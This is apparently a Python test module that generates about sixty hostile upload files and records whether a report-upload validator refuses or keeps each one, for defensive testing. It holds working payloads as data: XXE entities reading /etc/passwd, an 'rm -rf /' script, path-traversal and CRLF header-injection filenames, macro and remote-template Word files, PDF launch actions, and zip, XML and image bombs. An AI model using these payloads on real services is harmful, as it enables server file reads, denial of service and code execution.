"""Sixty-odd files that were made to do harm. `python -m tests.files.hostile FOLDER` writes them out.

Each says what is to happen when it is brought as the file of a report: REFUSED with a sentence, or KEPT: a picture made anew, or a PDF or Word file that is only
ever an attachment. The expectations are written by hand.
"""

import io
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from PIL import Image

from tests.files import samples
from tests.files.samples import EICAR, PARTS, packed, pdf, picture, png_chunk, png_of_size, word

REFUSED, KEPT = "refused", "kept"


@dataclass(frozen=True)
class Hostile:
    """A file: what is bad about it, the name it is sent under, its bytes, and what is to happen; `becomes` begins the name under which it is kept."""

    what: str
    name: str
    content: bytes
    outcome: str = REFUSED
    becomes: str = ""


@cache
def hostile_files() -> tuple[Hostile, ...]:
    """Make them all."""
    return (*_pages_and_programs(), *_names(), *_packed(), *_pdfs(), *_pictures(), *_viruses())


def _pages_and_programs() -> list[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
    entity = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    html = b"<!doctype html><script>alert(document.cookie)</script>"
    return [
        Hostile("SVG with a script", "drawing.svg", svg % b"<script>alert(1)</script>"),
        Hostile(
            "SVG with a page inside", "drawing.svg", svg % b'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'
        ),
        Hostile("SVG that fetches", "drawing.png", svg % b'<use href="https://example.org/a.svg#x"/>'),
        Hostile("SVG that reads a file of the server", "drawing.svg", entity),
        Hostile("a web page named .pdf", "report.pdf", html),
        Hostile("a web page named .jpg", "photo.jpg", b"\n\n  " + html),
        Hostile("a web page behind a byte order mark", "report.docx", b"\xef\xbb\xbf" + html),
        Hostile("a script named .pdf", "report.pdf", b"#!/bin/sh\nrm -rf /\n"),
        Hostile("a Windows program named .pdf", "report.pdf", b"MZ\x90\x00" + b"\x00" * 200),
        Hostile("a Linux program named .docx", "report.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
        Hostile(
            "a picture that is a program for another reader (GIF and script)", "photo.jpg", b"GIF89a/*" + b"\x00" * 40 + b"*/=1;alert(1)"
        ),
        Hostile("nothing at all", "report.pdf", b""),
        Hostile("one byte", "report.pdf", b"%"),
        Hostile("Word of the older kind, or locked", "report.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        Hostile("RTF with an object", "report.doc", rb"{\rtf1{\object\objdata 0105}}"),
    ]


def _names() -> list[Hostile]:
    good = pdf()
    return [
        Hostile("a name with another ending behind", "report.pdf.exe", good, KEPT, "report.pdf"),
        Hostile("a name that is read backwards", "report\u202efdp.exe", good, KEPT, "reportfdp.pdf"),
        Hostile("a name with NUL", "report\x00.exe.pdf", good, KEPT, "report"),
        Hostile("a name with line ends for a header", 'report"\r\nSet-Cookie: a=b\r\n.pdf', good, KEPT, "report"),
        Hostile("a name of 300 letters", "r" * 296 + ".pdf", good, KEPT, "r" * 100 + ".pdf"),
        Hostile("a name of 300 bytes in few letters", "🎒" * 75 + ".pdf", good, KEPT, "🎒" * 10),
        Hostile("a name that climbs", "../../../../etc/passwd.pdf", good, KEPT, "passwd.pdf"),
        Hostile("a name that climbs, in code", "..%2f..%2fetc%2fpasswd.pdf", good, KEPT, "2f"),
        Hostile("a name with a drive", "C:\\Windows\\System32\\report.pdf", good, KEPT, "report.pdf"),
        Hostile("a name that Windows keeps for itself", "CON.pdf", good, KEPT, "file-CON.pdf"),
        Hostile("a name that hides itself", ".htaccess", good, KEPT, "htaccess.pdf"),
        Hostile("a name of dots", "....pdf", good, KEPT, "file.pdf"),
        Hostile("letters that look like others", "rеpоrt.pdf", good, KEPT, "rеpоrt.pdf"),
        Hostile("a name of a formula and a tag", "=cmd|'<img src=x onerror=alert(1)>'.pdf", good, KEPT, "=cmd"),
        Hostile("a picture named .pdf", "report.pdf", picture(), KEPT, "report.jpg"),
        Hostile("a PDF named .jpg", "photo.jpg", good, KEPT, "photo.pdf"),
    ]


def _relation(kind: str, target: str) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def _packed() -> list[Hostile]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    billion = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><d>&l9;</d>'.encode()
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as file:
        for name, content in [*PARTS.items(), ("word/document.xml", b"<d/>")]:
            file.writestr(name, content)
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as file:
        for name, content in PARTS.items():
            file.writestr(name, content)
        entry = zipfile.ZipInfo("word/media/a.png")
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    locked = bytearray(word())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = locked.find(sign)
        while start != -1:
            locked[start + place] |= 1
            start = locked.find(sign, start + 4)
    macro = samples.CONTENT_TYPES.replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")
    return [
        Hostile("a folder of packed files named .docx", "report.docx", packed({"a.txt": b"words"})),
        Hostile(
            "a Java archive that is also a picture",
            "photo.jpg",
            picture() + packed({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}),
            KEPT,
            "photo.jpg",
        ),
        Hostile("a bomb of 230 MB in a quarter of one", "report.docx", packed(PARTS | {"word/media/a.xml": b"\x00" * 230_000_000})),
        Hostile("a bomb in many parts", "report.docx", packed(PARTS | {f"word/media/{n}.bin": b"" for n in range(5_000)})),
        Hostile("a bomb within a bomb", "report.docx", packed({"a.zip": packed({"b.zip": packed({"c": b"\x00" * 9_000_000})})})),
        Hostile("a part that says it is smaller than it is", "report.docx", _understated()),
        Hostile("a part that climbs out of its folder", "report.docx", packed(PARTS | {"../../../../var/evil.xml": b"<a/>"})),
        Hostile("a part with an absolute way", "report.docx", packed(PARTS | {"/etc/cron.d/evil": b"x"})),
        Hostile("a part with a drive", "report.docx", packed(PARTS | {"C:\\evil.dll": b"x"})),
        Hostile("a part that is a link", "report.docx", link.getvalue()),
        Hostile("the same part twice", "report.docx", twice.getvalue()),
        Hostile("a locked archive", "report.docx", bytes(locked)),
        Hostile("Word with a macro, by name", "report.docm", packed(PARTS | {"[Content_Types].xml": macro})),
        Hostile("Word with a macro, by part", "report.docx", word(word__vbaProject=b"x", **{"word__vbaProject.bin": b"x"})),
        Hostile(
            "Word that fetches a template",
            "report.docx",
            word(**{"word___rels__settings.xml.rels": _relation("attachedTemplate", "https://example.org/a.dotm")}),
        ),
        Hostile(
            "Word that fetches a picture",
            "report.docx",
            word(**{"word___rels__document.xml.rels": _relation("image", "https://example.org/track.png")}),
        ),
        Hostile(
            "Word that fetches a frame of a file share",
            "report.docx",
            word(**{"word___rels__webSettings.xml.rels": _relation("frame", "file://10.0.0.1/a")}),
        ),
        Hostile(
            "Word that links to a program",
            "report.docx",
            word(**{"word___rels__document.xml.rels": _relation("oleObject", "https://example.org/a.hta")}),
        ),
        Hostile("Word with an object inside", "report.docx", word(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        Hostile("Word with ActiveX", "report.docx", word(**{"word__activeX__activeX1.xml": b"<a/>"})),
        Hostile("Word of a billion laughs", "report.docx", packed(PARTS | {"word/document.xml": billion})),
        Hostile(
            "a billion laughs in another alphabet", "report.docx", packed(PARTS | {"word/styles.xml": billion.decode().encode("utf-16")})
        ),
        Hostile(
            "Word that reads a file of the server",
            "report.docx",
            word(**{"word__x.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        ),
        Hostile("Word with words behind its end", "report.docx", word() + b"<script>alert(1)</script>"),
        Hostile("Word cut short", "report.docx", word()[:-60]),
        Hostile("an Excel file", "report.docx", packed({"[Content_Types].xml": samples.CONTENT_TYPES, "xl/workbook.xml": b"<a/>"})),
    ]


def _understated() -> bytes:
    """Let a part claim ten bytes where a million unpack."""
    content = bytearray(packed(PARTS | {"word/big.xml": b"<a>" + b" " * 1_000_000 + b"</a>"}))
    real, claimed = struct.pack("<I", 1_000_007), struct.pack("<I", 10)
    return bytes(content.replace(real, claimed))


def _pdfs() -> list[Hostile]:
    script = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    cycle = b"<< /Type /Pages /Kids [2 0 R] /Count 1000000 >>"
    return [
        Hostile("PDF with a script", "report.pdf", pdf(script), KEPT, "report.pdf"),
        Hostile("PDF that starts a program", "report.pdf", pdf(b"/OpenAction << /S /Launch /F (calc.exe) >>"), KEPT, "report.pdf"),
        Hostile("PDF that opens another", "report.pdf", pdf(b"/OpenAction << /S /GoToR /F (//10.0.0.1/a.pdf) >>"), KEPT, "report.pdf"),
        Hostile(
            "PDF with a file inside",
            "report.pdf",
            pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", b"<< /Type /Filespec >>"),
            KEPT,
            "report.pdf",
        ),
        Hostile(
            "PDF whose pages hold themselves",
            "report.pdf",
            pdf().replace(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", cycle),
            KEPT,
            "report.pdf",
        ),
        Hostile("PDF and web page in one", "report.pdf", pdf(words=b"<script>alert(1)</script>"), KEPT, "report.pdf"),
        Hostile("PDF and archive in one", "report.pdf", pdf() + packed({"A.class": b"x" * 100})),
        Hostile("a page before the PDF", "report.pdf", b"<script>alert(1)</script>" + pdf()),
        Hostile("PDF cut short", "report.pdf", pdf()[:-40]),
    ]


def _jpeg_as(shape: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20)).save(out, shape)
    return out.getvalue()


def _pictures() -> list[Hostile]:
    whole = picture()
    plain = _jpeg_as("PNG")
    end = plain.index(b"IDAT") - 4
    profile = png_chunk(b"iCCP", b"x\x00\x00" + zlib.compress(b"\x00" * 30_000_000))
    frames = io.BytesIO()
    film = [Image.effect_noise((200, 200), sigma).convert("RGB") for sigma in range(10, 40)]
    film[0].save(frames, "PNG", save_all=True, append_images=film[1:])
    many = b"".join(png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 20, 20, 0, 0, 1, 10, 0, 0)) for n in range(100_000))
    return [
        Hostile("PNG of 60,000 by 60,000 dots", "photo.png", png_of_size(60_000, 60_000)),
        Hostile("PNG of four milliard by one", "photo.png", _said_size(2_000_000_000)),
        Hostile("PNG with a profile of 30 MB", "photo.png", plain[:end] + profile + plain[end:]),
        Hostile("PNG with thirty moving frames", "photo.png", frames.getvalue(), KEPT, "photo.png"),
        Hostile(
            "PNG with 100,000 announced frames",
            "photo.png",
            plain[:end] + png_chunk(b"acTL", struct.pack(">II", 100_000, 0)) + many + plain[end:],
            KEPT,
            "photo.png",
        ),
        Hostile("TIFF named .jpg", "photo.jpg", _jpeg_as("TIFF")),
        Hostile("GIF named .jpg", "photo.jpg", _jpeg_as("GIF")),
        Hostile("BMP named .jpg", "photo.jpg", _jpeg_as("BMP")),
        Hostile("PSD named .jpg", "photo.jpg", b"8BPS\x00\x01" + b"\x00" * 100),
        Hostile("icon named .png", "photo.png", _jpeg_as("ICO")),
        Hostile("JPEG cut short", "photo.jpg", whole[: len(whole) // 2]),
        Hostile("JPEG of its first bytes alone", "photo.jpg", b"\xff\xd8\xff\xe0" + b"\x41" * 5_000),
        Hostile("JPEG with where, who and with what", "photo.jpg", whole, KEPT, "photo.jpg"),
        Hostile("JPEG with a script in its comment", "photo.jpg", picture(comment=b"*/alert(1)/*"), KEPT, "photo.jpg"),
        Hostile("WebP with where, who and with what", "photo.webp", picture("WEBP"), KEPT, "photo.webp"),
        Hostile("WebP that lies about its length", "photo.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 " + b"\xff" * 400),
        Hostile("PNG with where, who and with what", "photo.png", picture("PNG"), KEPT, "photo.png"),
        Hostile("HEIC with where, who and with what", "photo.heic", picture("HEIF"), KEPT, "photo.jpg"),
        Hostile("HEIC of nothing", "photo.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\xff" * 500),
    ]


def _said_size(width: int) -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, 2, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + png_chunk(b"IEND", b"")


def _viruses() -> list[Hostile]:
    hidden = b"<< /Length %d >>\nstream\n" % len(EICAR) + EICAR + b"\nendstream"
    return [
        Hostile("the test virus, plain", "eicar.com", EICAR),
        Hostile("the test virus, packed", "eicar.docx", packed({"eicar.com": EICAR})),
        Hostile("the test virus in a PDF", "eicar.pdf", pdf(b"", hidden)),
        Hostile("the test virus in a Word file", "eicar.docx", word(**{"word__media__a.bin": EICAR})),
    ]


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, file in enumerate(hostile_files()):
        (folder / f"{number:02} {file.what}".replace("/", "-")).write_bytes(file.content)
        print(f"{number:02} {len(file.content):>9} {file.outcome:8} {file.what}")
